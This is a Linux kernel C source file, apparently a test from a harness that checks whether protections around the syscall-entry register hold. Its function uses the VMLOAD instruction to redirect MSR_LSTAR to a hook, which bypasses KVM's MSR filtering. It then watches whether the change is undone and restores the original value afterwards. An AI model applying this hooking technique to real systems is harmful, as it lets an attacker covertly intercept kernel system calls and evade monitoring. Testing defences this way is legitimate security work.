// SPDX-License-Identifier: GPL-2.0-only
/*
 * Where the guest may run guests of its own, VMLOAD sets the system call MSRs, and more, from
 * memory (APM vol. 2 15.5.2). It is no WRMSR: KVM's filter of MSRs is not asked
 * (vmload_vmsave_interception() in arch/x86/kvm/svm/svm.c), and a processor that virtualises the
 * instruction does not even leave the guest.
 */
#include <asm/ibt.h>
#include <asm/msr-index.h>
#include <asm/nospec-branch.h>
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/io.h>

#include "poke.h"
#include "registers.h"

#define STEP_MS 100
/* APM vol. 2 table B-2: the state save area is at 0x400 of the control block. */
#define SAVED_LSTAR (0x400 + 0x208)

static unsigned long vmload(const void *block)
{
	unsigned long faulted = 1;

	asm volatile(RF_STORE("vmload")
		     : [f] "+r"(faulted)
		     : "a"(virt_to_phys((void *)block))
		     : "memory", "cc");
	return faulted;
}

static unsigned long vmsave(void *block)
{
	unsigned long faulted = 1;

	asm volatile(RF_STORE("vmsave")
		     : [f] "+r"(faulted)
		     : "a"(virt_to_phys(block))
		     : "memory", "cc");
	return faulted;
}

/* LSTAR only: the rest of what is loaded is what was there. */
static unsigned long load_lstar(u8 *block, u64 value)
{
	unsigned long faulted = vmsave(block);

	if (faulted)
		return faulted;
	*(u64 *)(block + SAVED_LSTAR) = value;
	return vmload(block);
}

/*
 * Where LSTAR is to point: on the way to the kernel's own entry, so that the guest goes on. SYSCALL
 * keeps the flags in r11, and every other register is the caller's.
 */
void rf_entry_hook(void);
u64 rf_entry_real;
unsigned int rf_entry_count;

asm("	.pushsection .text\n"
    "	.globl rf_entry_hook\n"
    "rf_entry_hook:\n"
    "	" ASM_ENDBR "	incl rf_entry_count(%rip)\n"
    "	" ANNOTATE_RETPOLINE_SAFE "\n"
    "	jmp *rf_entry_real(%rip)\n"
    "	.popsection\n");

/* It stays for a while: that it is there can only be found by looking. */
void attack_msr_vmload(struct rf_report *r)
{
	u64 efer, hook = (unsigned long)rf_entry_hook;
	unsigned long flags, faulted;
	unsigned int waited;
	u8 *block;

	if (!boot_cpu_has(X86_FEATURE_SVM))
		return rf_skip(r, "this guest may run no guests");
	block = (u8 *)get_zeroed_page(GFP_KERNEL);
	if (!block)
		return rf_skip(r, "no memory");
	migrate_disable();
	local_irq_save(flags);
	efer = rf_get_msr(MSR_EFER);
	rf_entry_real = rf_get_msr(MSR_LSTAR);
	faulted = rf_set_msr(MSR_EFER, efer | EFER_SVME);
	if (!faulted)
		faulted = load_lstar(block, hook);
	rf_set_msr(MSR_EFER, efer);
	r->outcome = rf_get_msr(MSR_LSTAR) == hook ? RF_LANDED
		     : faulted			   ? RF_FAULTED
						   : RF_UNCHANGED;
	local_irq_restore(flags);
	for (waited = 0; rf_get_msr(MSR_LSTAR) == hook && waited < rf_patience * 1000;
	     waited += STEP_MS)
		msleep(STEP_MS);
	if (r->outcome == RF_LANDED && rf_get_msr(MSR_LSTAR) != hook)
		r->outcome = RF_RESTORED;
	rf_say(r, "waited=%ums calls=%u", waited, rf_entry_count);
	local_irq_save(flags);
	if (rf_get_msr(MSR_LSTAR) != rf_entry_real) {
		rf_set_msr(MSR_EFER, efer | EFER_SVME);
		load_lstar(block, rf_entry_real);
		rf_set_msr(MSR_EFER, efer);
	}
	local_irq_restore(flags);
	rf_kept(r, "lstar", rf_get_msr(MSR_LSTAR) == rf_entry_real);
	migrate_enable();
	r->symbol = "MSR_LSTAR";
	r->at = (u8 *)hook;
	r->len = sizeof(hook);
	free_page((unsigned long)block);
}
